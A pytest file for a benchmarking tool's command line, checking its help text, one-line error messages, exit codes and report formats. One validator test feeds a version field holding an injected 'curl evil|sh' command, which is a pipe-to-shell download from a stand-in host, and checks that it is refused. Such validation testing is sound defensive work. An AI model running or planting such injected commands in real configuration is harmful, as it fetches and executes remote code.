"""argv -> exit code, and one clear line where something is wrong."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import runpy
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from runner import cli
from runner.cli.request import Request
from runner.errors import RunnerError
from runner.judge import rules
from runner.matrix import selection, sets
from runner.measure.rounds import further_rounds, neighbours
from runner.model import Better, Cell, Environment, Job, Kind, Metric, Plan, ProbeSpec, Sample, Status
from runner.report.formats import FORMATS
from runner.results.store import RunRecord, Store
from runner.util import folders


def _fails(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    """The one line on stderr of a command that is refused."""
    assert cli.run(list(argv)) == 2
    shown = capsys.readouterr()
    assert shown.out == ""
    lines = shown.err.splitlines()
    assert len(lines) == 1, shown.err
    return lines[0]


def test_help_names_every_command_and_the_exit_codes(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["--help"]) == 0
    shown = capsys.readouterr().out
    for name in cli.COMMANDS:
        assert name in shown
    assert "130 interrupted" in " ".join(shown.split())


def test_without_arguments_the_help_is_the_answer(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run([]) == 2
    shown = capsys.readouterr()
    assert "Commands:\n" in shown.out + shown.err


@pytest.mark.parametrize("name", sorted(cli.COMMANDS))
def test_every_command_has_help(capsys: pytest.CaptureFixture[str], name: str) -> None:
    assert cli.run([name, "--help"]) == 0
    assert "Usage: runner" in capsys.readouterr().out


def test_list_json_holds_every_cell(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["list", "--json"]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown["set"] == "quick"
    assert len(shown["cells"]) == 7
    assert {"id", "framework", "version", "keras", "python", "device", "variant"} == set(shown["cells"][0])


def test_list_shows_the_sets(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["list", "--sets"]) == 0
    assert "quick" in capsys.readouterr().out
    assert cli.run(["list", "--sets", "--json"]) == 0
    shown = json.loads(capsys.readouterr().out)
    assert shown["default"] == "quick"
    assert set(shown["sets"]) == set(sets.load().sets)


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["matirx"], "did you mean 'matrix'"),
        (["list", "--set", "quik"], "did you mean 'quick'"),
        (["list", "--only", "torch-9*"], "matches no cell"),
        (["list", "--ony", "x"], "--ony"),
        (["matrix", "--jobs", "0"], "--jobs"),
        (["matrix", "--rounds", "0"], "--rounds"),
        (["matrix", "--seed", "-1"], "--seed"),
        (["matrix", "--baseline", "jax-0.10.2_keras-3.11.3_py3.11_cup", "--dry-run"], "did you mean 'jax-0.10.2"),
        (["matrix", "--keep", "1", "--max-rounds", "9", "--executor", "host"], "--max-rounds needs all images"),
        (["matrix", "--executor", "dcoker", "--dry-run"], "did you mean 'docker'"),
        (["matrix", "--probe", "mnits", "--dry-run"], "did you mean 'mnist'"),
        (["matrix", "--setting", "mnist", "--dry-run"], "mnist.epochs=5"),
        (["matrix", "--setting", "speed.x=1", "--probe", "mnist", "--dry-run"], "does not run"),
        (["matrix", "--setting", "mnist.epcohs=1", "--dry-run"], "did you mean 'epochs'"),
        (["matrix", "--setting", "mnist.epochs=many", "--dry-run"], "epochs is int, such as 3"),
        (["matrix", "--setting", "mnist.epochs=NaN", "--dry-run"], "epochs is int, such as 3"),
        (["matrix", "--setting", f"mnist.epochs={'[' * 100_000}", "--dry-run"], "epochs is int, such as 3"),
        (["matrix", "--probe", "hello", "--setting", "hello.x=1", "--dry-run"], "hello has no setting 'x'"),
        (["matrix", "--alpha", "nan", "--dry-run"], "'nan' is not a number"),
        (["matrix", "--floor", "1", "--dry-run"], "--floor"),
        (["matrix", "--timeout", "inf", "--dry-run"], "'inf' is not a number"),
        (["judge", "-", "--alpha", "2"], "--alpha"),
        (["matrix", "--rounds", "5", "--max-rounds", "3", "--dry-run"], "--max-rounds 3 is less than --rounds 5"),
        (["matrix", "--budget", "5", "--dry-run"], "'5' is not a time (examples: 90s, 10m, 2h, none)"),
        (["matrix", "--budget", "-5m", "--dry-run"], "'-5m' is not a time"),
        (["matrix", "--budget", "0s", "--dry-run"], "'0s' is not longer than nothing"),
        (["matrix", "--budget", "5m", "--keep", "1"], "--budget needs all images"),
        (["matrix", "--budget", "5m", "--rounds", "20", "--dry-run"], "--rounds 20 leaves no further round"),
        (["matrix", "--budget", "5m", "--rounds", "9", "--max-rounds", "8"], "--max-rounds 8 is less than --rounds 9"),
        (["matrix", "--device", "cuda", "--dry-run"], "--device goes with --executor current"),
        (["matrix", "--device", "gpu", "--executor", "current", "--dry-run"], "'gpu' is not one of"),
        (["list", "--set", ""], "--set is empty"),
        (["list", "--only", "tensorflow-2.18.0_keras-3.8.0_*"], "of the set 'quick'; --set seeds has it"),
        (["calibrate", "torch-2.2.2_keras-3.11.4_py3.11_cpu"], "did you mean 'torch-2.2.2_keras-3.11.3_py3.11_cpu'"),
        (["report", "/nowhere"], "no such file or folder"),
        (["lock", "--set", "sede", "--check"], "did you mean 'seeds'"),
    ],
)
def test_bad_input_is_one_line_and_exit_code_2(
    capsys: pytest.CaptureFixture[str], argv: list[str], message: str
) -> None:
    assert message in _fails(capsys, *argv)


class Full:
    """A stream on a full disk."""

    encoding = "utf-8"

    def write(self, _text: object) -> int:
        raise OSError(28, "No space left on device")

    def flush(self) -> None:
        raise OSError(28, "No space left on device")


def test_a_report_on_a_full_disk_is_one_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sys, "stdout", Full())
    assert cli.run(["list"]) == 2
    assert capsys.readouterr().err == "runner: No space left on device\n"


def test_an_error_that_cannot_be_printed_keeps_its_exit_code(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stderr", Full())
    assert cli.run(["report", "/nonexistent"]) == 2


def test_an_out_that_cannot_be_written_is_refused(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    assert "cannot be written" in _fails(capsys, "matrix", "--executor", "host", "--out", str(tmp_path / "file"))


@pytest.mark.parametrize(
    "content",
    [b'{"schema": 1, "cell": {"fra', b'{"schema": 1, "reason": "\xff"}', b'{"schema": 1, "a": ' + b"[" * 100_000],
    ids=["cut in half", "not UTF-8", "too deep"],
)
def test_a_results_file_that_cannot_be_read_is_named(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, content: bytes
) -> None:
    broken = tmp_path / "results" / "c" / "mnist" / "000-a.json"
    broken.parent.mkdir(parents=True)
    broken.write_bytes(content)
    assert cli.run(["report", str(tmp_path)]) == 4
    shown = capsys.readouterr()
    assert shown.err == ""
    assert f"- {broken}: not a whole result file (" in " ".join(shown.out.split())


def test_a_malformed_matrix_names_file_and_line(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "matrix.toml").write_text("schema = 1\ndefault = quick\n")
    monkeypatch.setattr(folders, "matrix_dir", lambda: tmp_path)
    line = _fails(capsys, "list")
    assert "matrix.toml" in line
    assert "line 2" in line


MINE = """
[sets.mine]
description = "a user's own"
%s
[[sets.mine.product]]
framework = ["torch"]
version = ["%s"]
keras = ["3.11.3"]
device = ["cpu"]
%s
"""


@pytest.mark.parametrize(
    ("head", "version", "tail", "message"),
    [
        ("", "2.2.2", "", "the set 'mine' names no probe"),
        (
            "",
            "2.2.2; curl evil|sh",
            "",
            "matrix.toml: sets.mine: version '2.2.2; curl evil|sh' is not a release number",
        ),
        ("", "2.2.2", "[sets.mine.probes.mnist]\nepoch = 3", "sets.mine.probes: mnist has no setting 'epoch' (did you"),
        ("", "2.2.2", "[sets.mine.probes.mnist]\nepochs = 'x'", "sets.mine.probes: epochs is int, such as 3"),
        ("budget = '10'", "2.2.2", "", "sets.mine.budget: '10' is not a time (examples: 90s, 10m, 2h, none)"),
        ("executor = 'dokcer'", "2.2.2", "[sets.mine.probes.mnist]", "no executor 'dokcer' (did you mean 'docker'"),
        (
            "platform = 'linux-x86-64'",
            "2.2.2",
            "",
            "sets.mine: no platform 'linux-x86-64' (did you mean 'linux-x86_64'",
        ),
    ],
)
def test_a_set_of_ones_own_that_does_not_fit_is_refused_before_anything_runs(
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    head: str,
    version: str,
    tail: str,
    message: str,
) -> None:
    shipped = folders.matrix_dir()
    for file in shipped.glob("*.toml"):
        (tmp_path / file.name).write_bytes(file.read_bytes())
    mine = (shipped / "matrix.toml").read_text() + MINE % (head, version, tail)
    (tmp_path / "matrix.toml").write_text(mine)
    monkeypatch.setattr(folders, "matrix_dir", lambda: tmp_path)
    assert message in _fails(capsys, "matrix", "--set", "mine", "--dry-run")


def test_a_set_without_cells_is_refused(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "compat.toml").write_bytes((folders.matrix_dir() / "compat.toml").read_bytes())
    (tmp_path / "matrix.toml").write_text("schema = 1\ndefault = 'mine'\n[sets.mine]\ndescription = 'd'\n")
    monkeypatch.setattr(folders, "matrix_dir", lambda: tmp_path)
    assert "sets.mine has no cells" in _fails(capsys, "list")


@pytest.mark.parametrize("name", sorted(sets.load().sets))
def test_every_shipped_set_has_settings_that_its_probes_have(name: str) -> None:
    assert selection.probe_specs(selection.choose(name, ()), (), ())


def test_the_commands_of_images_are_told_in_whole_sentences(capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(["images", "--help"]) == 0
    commands = capsys.readouterr().out.partition("Commands:")[2]
    assert "sbom" in commands
    assert "..." not in commands


def test_a_reader_that_goes_away_is_no_error(
    capfd: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_args: object, **_kwargs: object) -> None:
        raise BrokenPipeError

    monkeypatch.setattr(cli.cli, "main", broken)
    monkeypatch.setattr("os.dup2", lambda *_fds: None)  # pytest needs its own stdout
    assert cli.run(["list"]) == 0
    assert capfd.readouterr().err == ""


def test_a_process_started_without_streams_gets_some_that_lead_nowhere() -> None:
    child = os.fork()
    if not child:  # what Python makes of `<&- >&- 2>&-`, in a process of its own
        os.closerange(0, 3)
        sys.stdin = sys.stdout = sys.stderr = None
        code = 99
        try:
            cli.main(["list"])
        except SystemExit as end:
            if all(stat.S_ISCHR(os.fstat(number).st_mode) for number in range(3)):
                code = end.code if isinstance(end.code, int) else 97
        finally:
            os._exit(code)
    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0


def test_a_terminal_width_that_is_none_is_ignored(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    Store(tmp_path).save(_sample(A))
    for columns in ("", "wide", "0", "-5"):
        monkeypatch.setenv("COLUMNS", columns)
        assert cli.run(["report", str(tmp_path)]) == 0
        assert "2.2.2" in capsys.readouterr().out


def test_a_file_that_cannot_be_written_is_one_line(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_args: object, **_kwargs: object) -> None:
        raise OSError(28, "No space left on device", "/big/run.json")

    monkeypatch.setattr(cli.cli, "main", full)
    assert cli.run(["list"]) == 2
    assert capsys.readouterr().err == "runner: /big/run.json: No space left on device\n"


def test_an_interrupt_is_130(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    def interrupted(*_args: object, **_kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(cli.cli, "main", interrupted)
    assert cli.run(["list"]) == 130
    assert "interrupted" in capsys.readouterr().err


def test_an_interrupt_before_there_is_a_command_line_is_130_too(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def interrupted() -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(cli, "main", interrupted)
    with pytest.raises(SystemExit) as end:
        runpy.run_module("runner", run_name="__main__")
    assert (end.value.code, capsys.readouterr().err) == (130, "runner: interrupted\n")


def test_an_error_of_the_project_carries_its_exit_code(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    class OddError(RunnerError):
        exit_code = 3

    def fail(*_args: object, **_kwargs: object) -> None:
        raise OddError("this and that")

    monkeypatch.setattr(cli.cli, "main", fail)
    assert cli.run(["list"]) == 3
    assert capsys.readouterr().err == "runner: this and that\n"


def _sample(cell: Cell, status: Status = Status.OK, reason: str = "", number: int = 0) -> Sample:
    return Sample(cell, "e", "mnist", {}, number, number, "docker", status, reason, key="k" * 64, started="2026-01-01")


A = Cell("torch", "2.2.2", "3.8.0", "3.11", "cpu")
B = Cell("torch", "2.6.0", "3.8.0", "3.11", "cpu")


@pytest.mark.parametrize(
    ("samples", "code"),
    [
        ([_sample(A), _sample(B)], 0),
        ([_sample(A), _sample(B, Status.CRASHED, "boom")], 1),
        ([_sample(A), _sample(B, Status.UNAVAILABLE, "no GPU")], 3),
        ([_sample(A, Status.CRASHED, "boom")], 4),
    ],
)
def test_report_ends_with_the_exit_code_of_what_it_shows(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, samples: list[Sample], code: int
) -> None:
    for sample in samples:
        Store(tmp_path).save(sample)
    assert cli.run(["report", str(tmp_path), "--format", "json"]) == code
    shown = json.loads(capsys.readouterr().out)
    assert shown["exit_code"] == code


WHOLE = [name for name in FORMATS if name != "badge"]
"""The formats that have everything; a badge has a few words."""


@pytest.mark.parametrize("format_", WHOLE)
def test_every_format_can_be_printed(capsys: pytest.CaptureFixture[str], tmp_path: Path, format_: str) -> None:
    Store(tmp_path).save(_sample(A))
    Store(tmp_path).save(_sample(B, Status.IMPORT_FAILED, "no [red]module"))
    assert cli.run(["report", str(tmp_path), "--format", format_]) == 1
    shown = capsys.readouterr().out
    assert re.search(r"no \\?\[red\\?\]module", shown)  # Markdown escapes the brackets, nothing swallows them


def test_all_prints_the_probes_and_columns_in_which_nothing_differs(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    error = Metric("plain.error_max", 1.0, Kind.ERROR, Better.LOWER, "u", terms=64)
    for cell in (A, B):
        Store(tmp_path).save(dataclasses.replace(_sample(cell), probe="conv2d", metrics=(error,)))
    assert cli.run(["report", str(tmp_path)]) == 0
    shown = capsys.readouterr().out
    assert "FINE       conv2d: 1 case, every error within rounding in both combinations that run\n" in shown
    assert "largest error" not in shown
    assert cli.run(["report", str(tmp_path), "--all"]) == 0
    shown = capsys.readouterr().out
    assert "largest error" in shown
    assert "FINE" not in shown


def test_a_planned_cell_that_left_nothing_is_shown_as_missing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    Store(tmp_path).save(_sample(A))
    Store(tmp_path).record(RunRecord("quick", (A, B)))
    assert cli.run(["report", str(tmp_path)]) == 3
    assert "left no result" in " ".join(capsys.readouterr().out.split())


def test_a_probe_or_a_round_that_left_nothing_is_shown_as_missing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    Store(tmp_path / "a").save(_sample(A))
    Store(tmp_path / "b").save(_sample(B, Status.CRASHED))
    probe = _sample(A).probe
    planned = ((A.id, probe, 3), (A.id, "conv2d", 1), (B.id, probe, 3))
    Store(tmp_path / "a").record(RunRecord("quick", (A, B), processes=((A.id, probe, 1),)))
    Store(tmp_path / "b").record(RunRecord("quick", (A, B), processes=planned))
    for format_ in WHOLE:
        cli.run(["report", str(tmp_path), "--format", format_])
        shown = " ".join(capsys.readouterr().out.split())
        assert f"{probe}: 1 of 3 processes: the run was stopped or died" in shown
        assert "conv2d: planned, but left no result: the run was stopped or died" in shown
        once = 2 if format_ == "json" else 1  # JSON has the figures and the sentences
        assert shown.count("was stopped or died") == 2 * once  # the cell that crashed is not asked again

    Store(tmp_path / "a").record(RunRecord("quick", (A,), processes=((A.id, probe, 2),)))
    assert cli.run(["report", str(tmp_path / "a")]) == 3


def test_nothing_starts_a_process_to_list_render_or_report(tmp_path: Path) -> None:
    """Popen and sockets are poisoned for unit tests: reaching an engine would fail here."""
    assert subprocess.Popen.__init__.__name__ == "refuse"
    assert cli.run(["render", "--check"]) == 0
    assert cli.run(["lock", "--check"]) == 0


def test_further_rounds_go_on_where_each_pair_stopped_and_rotate() -> None:
    environment = Environment("torch", "2.2.2", "3.8.0", "3.11", "cpu", "linux-x86_64")
    jobs = tuple(Job(cell, environment, ProbeSpec("mnist"), 0, 5, "docker") for cell in (A, B))
    more = further_rounds(Plan(jobs, ()), [_sample(A), _sample(B)], {(A.id, "mnist"): 2, (B.id, "mnist"): 2})
    assert [(job.cell.version, job.round, job.seed) for job in more] == [
        ("2.6.0", 1, 6), ("2.2.2", 1, 6), ("2.2.2", 2, 7), ("2.6.0", 2, 7),
    ]  # fmt: skip
    assert further_rounds(Plan(jobs, ()), [_sample(A)], {}) == ()


def test_cells_on_one_framework_release_are_built_side_by_side() -> None:
    a, b, c = (Environment("torch", v, k, "3.11", "cpu", "p") for v, k in (("1", "3.8.0"), ("2", "3.8.0"), ("1", None)))
    assert neighbours([a, b, c, a]) == [a, c, b]


def test_the_reproducing_command_repeats_what_was_not_default() -> None:
    defaults = {
        "set_name": None, "only": (), "probes": (), "settings": (), "executor": "auto", "device": "cpu", "rounds": None,
        "max_rounds": None, "budget_s": None, "keep": None, "keep_free": None,
        "seed": 0, "jobs": 1, "builds": 2, "timeout_s": None, "data": (), "offline": False,
        "baseline": None, "alpha": 0.05, "floor": 0.05, "fresh": False, "keep_failed": False,
        "dry_run": False, "out": Path("out"), "everything": False,
        "format_": "terminal",
    }  # fmt: skip
    assert Request(**defaults).invocation() == ""  # type: ignore[arg-type]
    changed: dict[str, object] = {**defaults, "set_name": "seeds", "seed": 3, "settings": ("mnist.epochs=1",)}
    changed |= {"data": ("a b", "daquar=photos"), "timeout_s": 1800.0, "offline": True}
    repeated = (
        "--set seeds --seed 3 --timeout 1800 --offline --data 'a b' --data daquar=photos --setting mnist.epochs=1"
    )
    assert Request(**changed).invocation() == repeated  # type: ignore[arg-type]
    elsewhere = Request(**{**defaults, "out": Path("my results"), "everything": True})  # type: ignore[arg-type]
    assert elsewhere.invocation() == "--out 'my results'"


@pytest.mark.parametrize(("planned", "sequential", "rounds"), [(20, True, 20), (None, False, 1)])
def test_a_run_is_judged_again_with_the_looks_and_the_noise_it_was_planned_with(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planned: int | None, *, sequential: bool, rounds: int
) -> None:
    from runner import judge
    from runner.judge import calibration_file
    from runner.report import build
    from runner.results.store import RunRecord

    Store(tmp_path).save(_sample(A))
    Store(tmp_path).record(RunRecord("quick", (A,), max_rounds=planned))
    seen: list[judge.JudgeSettings] = []
    real = judge.judge

    def spy(samples: object, pairs: object, known: object, settings: judge.JudgeSettings) -> object:
        seen.append(settings)
        return real(samples, pairs, known, settings)  # type: ignore[arg-type]

    monkeypatch.setattr(judge, "judge", spy)
    monkeypatch.setattr(calibration_file, "noise_for", lambda _samples, _folder: {A.id: 0.2})
    build.from_folders([tmp_path], rules.Rules())
    assert [(s.sequential, s.max_rounds, s.noise) for s in seen] == [(sequential, rounds, {A.id: 0.2})]


@pytest.mark.parametrize(
    "words",
    [["bisect", "keras", "--good", "3.8.0", "--bad", "3.15.1", "--source", ""], ["report", "out", "--baseline", ""]],
)
def test_an_option_without_a_value_is_refused(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    assert cli.run(words) == 2
    assert f"{words[-2]} is empty: give it a value, or leave it out" in capsys.readouterr().err
